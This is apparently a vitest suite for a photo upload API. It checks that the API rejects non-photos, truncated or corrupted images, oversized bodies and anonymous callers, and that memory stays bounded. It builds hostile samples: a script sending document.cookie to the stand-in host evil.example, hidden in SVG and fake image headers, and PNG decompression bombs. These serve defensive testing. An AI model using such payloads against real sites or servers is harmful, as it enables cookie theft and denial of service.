import { request } from 'node:http'
import { text } from 'node:stream/consumers'
import { crc32, deflateSync } from 'node:zlib'
import fc from 'fast-check'
import sharp from 'sharp'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { startTestApp, type TestApp } from '../../../test/harness/app.ts'
import type { Person } from '../../../test/harness/people.ts'
import { plain, upload } from '../../../test/harness/photos.ts'
import { outcomeOf } from '../../../test/harness/send.ts'
import { readTables } from '../../../test/harness/tables.ts'

let app: TestApp
let sana: Person

beforeAll(async () => {
  app = await startTestApp()
  sana = await app.signUp('Sana', 'seller')
})
afterAll(() => app.close())

const mega = 1024 * 1024

/** Uploads with the hourly limits reset. */
async function tried(bytes: Uint8Array) {
  await app.pool.query("delete from rate_limit where key like 'upload%'")
  const answer = await upload(app, sana, bytes)
  return [answer.status, outcomeOf(answer)]
}

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const frame = Buffer.alloc(8)
  frame.writeUInt32BE(data.length, 0)
  frame.writeUInt32BE(crc32(named), 4)
  return Buffer.concat([frame.subarray(0, 4), named, frame.subarray(4)])
}

/** Its bit depth and its colour type. */
type PixelFormat = [number, number]
const trueColour: PixelFormat = [8, 2]
const blackAndWhite: PixelFormat = [1, 0]

/** A PNG with this declared format and size, and these chunks after its header. */
function pngIn(format: PixelFormat, width: number, height: number, ...chunks: Buffer[]): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set(format, 8)
  const start = Buffer.from('89504e470d0a1a0a', 'hex')
  return Buffer.concat([start, chunk('IHDR', head), ...chunks, chunk('IEND', Buffer.alloc(0))])
}

const png = (width: number, height: number, ...chunks: Buffer[]) =>
  pngIn(trueColour, width, height, ...chunks)

/** 14,000 × 14,000 real pixels in 24 KB. */
function hugePng(): Buffer {
  const bytesOfRow = 1 + 14_000 / 8
  const pixels = deflateSync(Buffer.alloc(14_000 * bytesOfRow), { level: 9 })
  return pngIn(blackAndWhite, 14_000, 14_000, chunk('IDAT', pixels))
}

let packed: Buffer | undefined

/** 500 MB of zeros, compressed once. */
function packedZeros(): Buffer {
  packed ??= deflateSync(Buffer.alloc(500 * mega), { level: 9 })
  return packed
}

/** PNG text that decompresses to 500 MB. */
function textBomb(): Buffer {
  const words = Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), packedZeros()])
  return png(10, 10, chunk('zTXt', words), chunk('IDAT', deflateSync(Buffer.alloc(310))))
}

/** A PNG colour profile that decompresses to 500 MB, as declared. */
function profileBomb(): Buffer {
  const profile = Buffer.alloc(500 * mega)
  profile.writeUInt32BE(profile.length, 0)
  profile.write('acsp', 36)
  const packed = Buffer.concat([Buffer.from('p\0\0', 'latin1'), deflateSync(profile, { level: 9 })])
  return png(10, 10, chunk('iCCP', packed), chunk('IDAT', deflateSync(Buffer.alloc(310))))
}

/** A PNG with 500 MB more pixel data than declared. */
function pixelBomb(): Buffer {
  return png(10, 10, chunk('IDAT', packedZeros()))
}

const script = '<script>fetch("//evil.example/"+document.cookie)</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${script}</svg>`
const isoFile = (...brands: string[]) => {
  const box = Buffer.from(`    ftyp${brands[0]}\0\0\0\0${brands.join('')}`, 'latin1')
  box.writeUInt32BE(box.length, 0)
  return Buffer.concat([box, Buffer.alloc(400)])
}

test.each<[string, () => Promise<Uint8Array> | Uint8Array]>([
  ['nothing', () => Buffer.alloc(0)],
  ['an SVG with a script', () => Buffer.from(svg)],
  ['an SVG with a head', () => Buffer.from(`<?xml version="1.0"?>\n${svg}`)],
  ['a packed SVG', () => deflateSync(svg)],
  ['a page', () => Buffer.from(`<!doctype html>${script}`)],
  ['JSON', () => Buffer.from('{"id":1}')],
  ['a GIF', () => plain(9).gif().toBuffer()],
  ['a TIFF', () => plain(9).tiff().toBuffer()],
  ['a PDF', () => Buffer.from('%PDF-1.7\n%âãÏÓ\n')],
  ['a HEIC', () => isoFile('heic', 'mif1', 'heic')],
  ['a film', () => isoFile('isom', 'mp42')],
  ['an AVIF in name only', () => isoFile('avif', 'mif1')],
  ['a WebP in name only', () => Buffer.from(`RIFF\x24\0\0\0WEBPVP8 ${script}`, 'latin1')],
  ['a JPEG in name only', () => Buffer.from(`\xff\xd8\xff\xe0${svg}`, 'latin1')],
  ['a PNG in name only', () => Buffer.from(`\x89PNG\r\n\x1a\n${svg}`, 'latin1')],
  ['a PNG without pixels', () => png(10, 10)],
  ['a PNG of no size', () => png(0, 0)],
  ['an empty AVIF box', () => Buffer.from('\0\0\0\0ftypavif\0\0\0\0', 'latin1')],
])('%s is not a photo', async (_, bytes) => {
  expect(await tried(await bytes())).toEqual([415, 'not_a_photo'])
})

test.each(['jpeg', 'png', 'webp', 'avif'] as const)(
  'half of a %s is not a photo',
  async (format) => {
    const { data } = await noise(300)
    const whole = await sharp(data, noisy(300)).toFormat(format, { effort: 2 }).toBuffer()
    expect(await tried(whole)).toEqual([200, 'ok'])
    for (const part of [0.1, 0.5, 0.9]) {
      const cut = whole.subarray(0, Math.floor(whole.length * part))
      expect([part, ...(await tried(cut))]).toEqual([part, 415, 'not_a_photo'])
    }
  },
)

const noisy = (width: number) => ({ raw: { width, height: width, channels: 3 as const } })
async function noise(width: number) {
  const data = Buffer.alloc(width * width * 3)
  for (let at = 0; at < data.length; at += 1) data[at] = (at * 2_654_435_761) >>> 24
  return { data }
}

test('corrupted bytes are accepted or refused, never an internal error', async () => {
  const formats = ['jpeg', 'png', 'webp', 'avif'] as const
  const photos = await Promise.all(formats.map((format) => plain(24).toFormat(format).toBuffer()))
  const hurt = fc.tuple(
    fc.constantFrom(...photos),
    fc.array(fc.tuple(fc.nat(2_000), fc.nat(255)), { minLength: 1, maxLength: 6 }),
  )
  const property = fc.asyncProperty(hurt, async ([photo, wounds]) => {
    const bytes = Buffer.from(photo)
    for (const [at, byte] of wounds) bytes[at % bytes.length] = byte
    const [status, code] = await tried(bytes)
    expect(['ok', 'not_a_photo', 'photo_too_large']).toContain(code)
    expect([200, 413, 415]).toContain(status)
  })
  await fc.assert(property, { seed: 20_261_121, numRuns: 150 })
})

test('strips a script appended to a photo', async () => {
  const photo = await plain(40).jpeg().toBuffer()
  const { body } = await upload(app, sana, Buffer.concat([photo, Buffer.from(svg)]))
  const stored = await fetch(`${app.url}/media/${body.id}/40.webp`)
  expect(Buffer.from(await stored.arrayBuffer()).includes('script')).toBe(false)
})

type Sending = { person?: Person; announced?: number; sent: number; ends: boolean }

/** Sends this many bytes, with or without a Content-Length. */
function sendBytes({ person, announced, sent, ends }: Sending) {
  const { promise, resolve, reject } = Promise.withResolvers<[status?: number, code?: string]>()
  const length = announced && { 'content-length': String(announced) }
  const token = person && { authorization: `Bearer ${person.token}` }
  const headers = { ...token, ...(length ?? { 'transfer-encoding': 'chunked' }) }
  const how = { method: 'POST', headers, agent: false }
  const call = request(`${app.url}/api/media`, how, async (answer) => {
    resolve([answer.statusCode, JSON.parse(await text(answer)).code])
    call.destroy()
  })
  call.on('error', reject)
  call.flushHeaders()
  const part = Buffer.alloc(mega / 4, 7)
  for (let at = 0; at < sent; at += part.length) call.write(part)
  if (ends) call.end()
  return promise
}

test.each([
  ['announced', { announced: 11 * mega, sent: 11 * mega, ends: true }],
  ['not announced', { sent: 11 * mega, ends: true }],
  ['announced, before they come', { announced: 30 * mega, sent: 0, ends: false }],
  ['not announced, without an end', { sent: 20.25 * mega, ends: false }],
])('refuses more than ten megabytes, %s', async (_, sending) => {
  expect(await sendBytes({ person: sana, ...sending })).toEqual([413, 'photo_too_heavy'])
})

test('accepts ten megabytes', async () => {
  const ten = { person: sana, sent: 10 * mega, ends: true }
  expect(await sendBytes(ten)).toEqual([415, 'not_a_photo'])
})

test('refuses an anonymous caller before reading the body', async () => {
  const nothing = { sent: 0, ends: false }
  expect(await sendBytes(nothing)).toEqual([401, 'sign_in_required'])
  expect(await sendBytes({ ...nothing, announced: mega })).toEqual([401, 'sign_in_required'])
})

test('a refused upload leaves nothing behind', async () => {
  const before = (await readTables(app.pool, ['rate_limit'])).size
  await tried(Buffer.from(svg))
  await tried(hugePng())
  await tried(await plain(9).gif().toBuffer())
  expect((await readTables(app.pool, ['rate_limit'])).size).toBe(before)
})

const bombs: [string, () => Buffer, (string | number)[][]][] = [
  ['14,000 × 14,000 pixels', hugePng, [[413, 'photo_too_large']]],
  [
    'a PNG that only says it is larger',
    () => png(65_000, 65_000, chunk('IDAT', deflateSync(Buffer.alloc(9)))),
    [[413, 'photo_too_large']],
  ],
  ['an SVG with a script', () => Buffer.from(svg), [[415, 'not_a_photo']]],
  [
    'a text of 500 MB in a PNG',
    textBomb,
    [
      [200, 'ok'],
      [415, 'not_a_photo'],
    ],
  ],
  [
    'a profile of 500 MB in a PNG',
    profileBomb,
    [
      [200, 'ok'],
      [415, 'not_a_photo'],
    ],
  ],
  [
    '500 MB of pixels in a small PNG',
    pixelBomb,
    [
      [200, 'ok'],
      [415, 'not_a_photo'],
    ],
  ],
]

/** In bytes, of this process, which includes the server and garbage not yet collected. */
const resident = () => process.memoryUsage.rss()

test.each(bombs)('%s, 20 times, does not exhaust memory', async (_, make, expected) => {
  const bytes = make()
  expect(bytes.length).toBeLessThan(10 * mega)
  expect(expected).toContainEqual(await tried(bytes))
  const before = resident()
  let most = before
  const watch = setInterval(() => {
    most = Math.max(most, resident())
  }, 5)
  for (let n = 0; n < 10; n += 1) {
    const answers = await Promise.all([tried(bytes), tried(bytes)])
    for (const answer of answers) expect(expected).toContainEqual(answer)
  }
  clearInterval(watch)
  expect((most - before) / mega).toBeLessThan(150)
})
